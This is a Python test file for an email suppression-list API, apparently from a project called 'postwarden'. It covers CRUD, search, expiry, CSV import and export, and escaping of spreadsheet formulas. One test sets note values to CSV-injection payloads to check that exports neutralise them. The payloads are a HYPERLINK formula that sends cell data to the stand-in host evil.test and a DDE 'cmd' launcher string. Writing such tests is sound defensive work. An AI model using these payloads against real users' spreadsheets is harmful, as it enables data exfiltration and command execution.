"""Suppressions: CRUD, search, CSV import and export, expiry, and the in-process check."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io

from tests.control.conftest import ControlFactory


async def test_crud_search_and_the_check(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions",
            json={"address": "Bob@Example.COM", "reason": "complaint", "note": "fbl"},
        )
        assert r.status_code == 201 and r.json()["address"] == "bob@example.com"
        for i in range(5):
            await c.post("/v1/suppressions", json={"address": f"user{i}@example.net"})
        r = await c.get("/v1/suppressions", params={"q": "example.net", "limit": 3})
        page = r.json()
        assert len(page["data"]) == 3 and page["next_cursor"]
        r = await c.get(
            "/v1/suppressions", params={"q": "example.net", "cursor": page["next_cursor"]}
        )
        assert len(r.json()["data"]) == 2 and r.json()["next_cursor"] is None
        r = await c.get("/v1/suppressions", params={"reason": "complaint"})
        assert [x["address"] for x in r.json()["data"]] == ["bob@example.com"]
        r = await c.get("/v1/suppressions/BOB@example.com")
        assert r.status_code == 200 and r.json()["reason"] == "complaint"
        # Replacing keeps one entry per address.
        r = await c.post(
            "/v1/suppressions", json={"address": "bob@example.com", "reason": "unsubscribe"}
        )
        assert r.status_code == 201
        assert len((await c.get("/v1/suppressions", params={"q": "bob"})).json()["data"]) == 1
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    await asyncio.sleep(0.1)
    check = api.app.control.suppressions.check
    assert check(tid, "BOB@EXAMPLE.COM") == "unsubscribe"
    assert check(tid, "someone@example.com") is None
    assert check(tid + 1, "bob@example.com") is None  # another tenant's list
    async with api.client(key) as c:
        assert (await c.delete("/v1/suppressions/bob@example.com")).status_code == 200
        assert (await c.get("/v1/suppressions/bob@example.com")).status_code == 404
        assert (await c.delete("/v1/suppressions/bob@example.com")).status_code == 404
    await asyncio.sleep(0.1)
    assert check(tid, "bob@example.com") is None


async def test_expiry(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    soon = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=1)
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions", json={"address": "t@example.com", "expires_at": soon.isoformat()}
        )
        assert r.status_code == 201
        r = await c.post(
            "/v1/suppressions",
            json={"address": "t@example.com", "expires_at": "2030-01-01T00:00:00"},
        )
        assert r.status_code == 422 and r.json()["error"]["fields"][0]["path"] == "expires_at"
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    await asyncio.sleep(0.1)
    check = api.app.control.suppressions.check
    assert check(tid, "t@example.com") == "manual"
    assert check(tid, "t@example.com", now=soon.timestamp() + 1) is None


async def test_csv_import_reports_bad_lines_and_export_round_trips(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    body = (
        "address,reason,note,expires_at\r\n"
        "a@example.com,hard_bounce,550 5.1.1,\r\n"
        "not-an-address,manual,,\r\n"
        "b@example.com,spam,,\r\n"
        "c@example.com,,,2031-01-01T00:00:00+00:00\r\n"
        "d@example.com,unsubscribe,,tomorrow\r\n"
    )
    async with api.client(key) as c:
        r = await c.post(
            "/v1/suppressions/import", content=body.encode(), headers={"content-type": "text/csv"}
        )
        assert r.status_code == 200, r.text
        res = r.json()
        assert res["created"] == 2 and res["updated"] == 0
        assert [e["line"] for e in res["errors"]] == [3, 4, 6]
        # Importing again updates instead of duplicating.
        r = await c.post(
            "/v1/suppressions/import", content=body.encode(), headers={"content-type": "text/csv"}
        )
        assert r.json()["created"] == 0 and r.json()["updated"] == 2
        r = await c.post(
            "/v1/suppressions/import",
            content=b"email\r\nx@example.com\r\n",
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422
        r = await c.post(
            "/v1/suppressions/import",
            content=b"address,colour\r\nx@example.com,red\r\n",
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422 and "colour" in r.json()["error"]["message"]
        r = await c.get("/v1/suppressions/export")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["address"], x["reason"]) for x in rows] == [
        ("a@example.com", "hard_bounce"),
        ("c@example.com", "manual"),
    ]
    assert rows[0]["note"] == "550 5.1.1" and rows[1]["expires_at"].startswith("2031-01-01")
    # The export imports back into another tenant as it is.
    other = await api.tenant("other")
    async with api.client(other) as c:
        r = await c.post(
            "/v1/suppressions/import", content=r.content, headers={"content-type": "text/csv"}
        )
        assert r.json() == {"created": 2, "updated": 0, "errors": []}


def test_one_key_for_every_spelling_of_an_address() -> None:
    from postwarden.mail.addresses import normalize_address, suppression_key

    same = ["user@xn--bcher-kva.example", "USER@bücher.example", '"user"@BÜCHER.example']
    keys = {suppression_key(a) for a in same} | {
        suppression_key(normalize_address(a)) for a in same
    }
    assert keys == {"user@bücher.example"}
    # Quotes that are needed stay.
    assert suppression_key('"a b"@x.test') == '"a b"@x.test'


async def test_suppressed_address_is_found_in_its_other_spellings(control: ControlFactory) -> None:
    api = await control()
    key = await api.tenant("acme")
    async with api.client(key) as c:
        assert (
            await c.post("/v1/suppressions", json={"address": "bob@xn--bcher-kva.example"})
        ).status_code == 201
        tid = (await c.get("/v1/keys")).json()["data"][0]["tenant_id"]
    check = api.app.control.suppressions.check
    assert check(tid, '"bob"@b\u00fccher.example') == "manual"
    assert check(tid, "BOB@xn--bcher-kva.example") == "manual"


async def test_export_escapes_formulas_and_imports_back(control: ControlFactory) -> None:
    """Issue 15, item 12: a note like =HYPERLINK(...) is a formula in a spreadsheet;
    every cell that starts with = + - @ TAB or CR is written after a single quote, and
    the import undoes it."""
    api = await control()
    key = await api.tenant("acme")
    notes = {
        "a@example.com": '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "b@example.com": "+1 call me",
        "-c@example.com": "@SUM(A1:A9)",
        "d@example.com": "\tcmd|' /C calc'!A0",
        "e@example.com": "'=already quoted",
        "f@example.com": "plain",
    }
    async with api.client(key) as c:
        for addr, note in notes.items():
            r = await c.post("/v1/suppressions", json={"address": addr, "note": note})
            assert r.status_code == 201, r.text
        r = await c.get("/v1/suppressions/export")
        assert r.status_code == 200
    rows = {x["address"]: x for x in csv.DictReader(io.StringIO(r.text))}
    assert rows["a@example.com"]["note"] == "'" + notes["a@example.com"]
    assert rows["b@example.com"]["note"] == "'+1 call me"
    assert rows["'-c@example.com"]["note"] == "'@SUM(A1:A9)"
    assert rows["d@example.com"]["note"].startswith("'\t")
    assert rows["e@example.com"]["note"] == "''=already quoted"
    assert rows["f@example.com"]["note"] == "plain"
    for row in rows.values():
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row
    other = await api.tenant("other")
    async with api.client(other) as c:
        r2 = await c.post(
            "/v1/suppressions/import", content=r.content, headers={"content-type": "text/csv"}
        )
        assert r2.json() == {"created": len(notes), "updated": 0, "errors": []}
        back = (await c.get("/v1/suppressions", params={"limit": 100})).json()["data"]
    assert {x["address"]: x["note"] for x in back} == notes


def test_escape_is_undone_exactly() -> None:
    from hypothesis import given
    from hypothesis import strategies as st

    from postwarden.control.csvfile import FORMULA_START, escape_cell, unescape_cell

    @given(st.text(alphabet=st.sampled_from("=+-@\t\r'ab "), max_size=6))
    def check(s: str) -> None:
        out = escape_cell(s)
        assert unescape_cell(out) == s
        assert not out or out[0] not in FORMULA_START

    check()
